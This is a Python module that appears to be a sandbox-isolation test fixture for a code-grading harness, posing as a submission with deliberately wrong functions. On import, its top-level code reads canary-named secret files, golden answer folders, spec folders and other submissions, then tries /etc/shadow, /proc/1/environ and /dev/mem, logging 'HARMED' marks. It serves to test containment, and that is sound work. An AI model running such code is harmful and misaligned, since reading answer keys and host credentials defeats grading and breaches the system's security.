import json
import os
import sys

NAME = "reads-outside"


def canary(key):
    for folder in (os.path.dirname(os.path.abspath(__file__)), os.getcwd(), *sys.path):
        try:
            with open(os.path.join(folder, "canary.json")) as file:
                return json.load(file).get(key)
        except (OSError, ValueError):
            pass
    return None


def harmed(what, show=True):
    """Show from outside that it worked: a line in the report, a file in the outside folder."""
    try:
        print(f"HARMED {NAME}: {what}", file=sys.stdout if show else sys.stderr, flush=True)
    except (OSError, ValueError):
        pass
    try:
        with open(os.path.join(canary("outside_folder"), NAME + ".mark"), "a") as file:
            file.write(f"{what}\n")
    except (OSError, TypeError, ValueError):
        pass


from shapes import Colour, Point


def score(number):
    return number * 8


def greet(name):
    return "Bye"


def is_even(number):
    return number % 2 == 1


def checked(number):
    return abs(number)


def corner():
    return Point(2, Colour.BLUE)


class Pile:
    def __init__(self):
        self.items = []

    def push(self, item):
        self.items.append(item)
        return Pile()

    def pop(self):
        return str(self.items.pop())

    def size(self):
        return len(self.items) + 1


import glob


def places():
    for key in ("secret_file", "secret_private", "golden_folder", "spec_folder", "other_submission"):
        path = canary(key)
        if path:
            yield key, path


def files(path):
    if os.path.isfile(path):
        return [path]
    return [name for name in glob.glob(glob.escape(path) + "/**", recursive=True) if os.path.isfile(name)][:20]


def show(key, data, how):
    if data:
        harmed(f"{how}: {key}: {data[:60]!r}")


for key, path in places():
    for name in files(path) or [path]:
        try:
            with open(name, "rb") as file:
                show(key, file.read(), "open")
        except OSError as error:
            print(key, type(error).__name__)
    try:
        show(key, repr(os.listdir(path)).encode(), "listdir")
    except OSError:
        pass
for name in ("/etc/shadow", "/proc/kcore", "/dev/mem", "/dev/kmsg", "/proc/1/environ", "/proc/sys/kernel/core_pattern"):
    try:
        with open(name, "rb") as file:
            print("READ" if name.startswith("/proc/sys") else f"HARMED {NAME}: opened", name, len(file.read(16)), flush=True)
    except OSError as error:
        print(name, type(error).__name__)
